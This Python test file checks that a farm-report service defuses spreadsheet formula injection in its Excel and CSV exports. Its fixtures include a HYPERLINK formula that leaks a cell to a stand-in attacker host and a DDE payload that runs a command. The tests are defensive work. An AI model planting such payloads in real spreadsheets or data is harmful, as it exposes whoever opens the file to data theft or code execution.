"""Issue 10 finding 9: a formula in a site or county name is text in every spreadsheet the
project emits: typed as a string in the workbook, ``'``-escaped in every CSV (OWASP).
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from farm_contract.indicators import IndicatorId, IndicatorValue
from farm_contract.payloads import EventType
from ingest_service.api.indicators import indicators_csv
from ingest_service.report.build import LedgerEntry, Report, ledger_csv, summary_csv
from ingest_service.report.excel import SHEETS, workbook_bytes
from ingest_service.report.spreadsheet import FORMULA_STARTS, csv_cell, defuse

COUNTY = "+SUM(1,2)"
SITE = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
FARM = "@cmd|' /C calc'!A0"
HOSTILE = (COUNTY, SITE, FARM, "-2+3", "=1+1")


def _report() -> Report:
    moment = datetime(2025, 12, 31, 16, tzinfo=UTC)
    indicators = [
        IndicatorValue(indicator=indicator, scope=scope, county=county, year=2025, value=0.5,
                       numerator=1.0, denominator=2.0, target=0.85, met=False)
        for scope, county in (("city", None), ("county", COUNTY))
        for indicator in IndicatorId
    ]
    ledger = [
        LedgerEntry(COUNTY, "d1", SITE, EventType.FILM_APPLIED, "", 2.0, 0.0, 1),
        LedgerEntry(COUNTY, "d1", SITE, EventType.FILM_RECOVERED, "", 1.0, 0.0, 1),
        LedgerEntry(COUNTY, "s1", "-2+3", EventType.HARVEST, "corn", 0.0, 4.0, 1, 1.2),
        LedgerEntry(COUNTY, "s1", "-2+3", EventType.STRAW_UTILIZED, "feed", 1.5, 0.0, 1),
        LedgerEntry(COUNTY, "m1", FARM, EventType.MANURE_TREATED, "", 3.0, 0.0, 2),
    ]
    return Report(year=2025, as_of=moment, generated=moment, counties=[COUNTY],
                  indicators=indicators, ledger=ledger,
                  manure_sites={COUNTY: [("m1", FARM, True), ("m2", "=1+1\x01", False)]})


def test_no_workbook_cell_is_a_formula_and_names_keep_their_text() -> None:
    book = load_workbook(io.BytesIO(workbook_bytes(_report())))
    assert book.sheetnames == list(SHEETS)
    found: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value in HOSTILE:
                    assert cell.data_type == "s"
                    found.add(cell.value)
    assert found == {COUNTY, SITE, FARM, "-2+3"}
    manure = book[SHEETS[3]]
    names = [manure.cell(row=r, column=3).value for r in range(5, manure.max_row + 1)]
    assert names == [FARM, "=1+1\ufffd"]  # a control character an xlsx cannot hold


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_csv_escapes_text_that_starts_a_formula() -> None:
    report = _report()
    ledger = _rows(ledger_csv(report))
    assert {row["site_name"] for row in ledger} == {"'" + SITE, "'-2+3", "'" + FARM}
    assert {row["county"] for row in ledger} == {"'" + COUNTY}
    assert {row["mass_t"] for row in ledger} >= {"2.0", "1.5"}  # numbers stay numbers
    summary = _rows(summary_csv(report))
    assert {row["county"] for row in summary} == {"", "'" + COUNTY}
    api = _rows(indicators_csv(report.indicators))
    assert {row["county"] for row in api} == {"", "'" + COUNTY}
    for row in [*ledger, *summary, *api]:
        assert not any(value.startswith(FORMULA_STARTS) for value in row.values()), row


def test_numbers_and_plain_text_are_not_escaped() -> None:
    assert [csv_cell(v) for v in (-1.5, 0, None, True, "平城区", "a=b")] == [
        "-1.5", "0", "", "true", "平城区", "a=b"]


@given(st.text())
def test_defused_text_never_starts_a_formula_and_loses_nothing(text: str) -> None:
    safe = defuse(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (text, "'" + text)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_dangerous_start_is_escaped(start: str) -> None:
    assert defuse(start + "x") == "'" + start + "x"
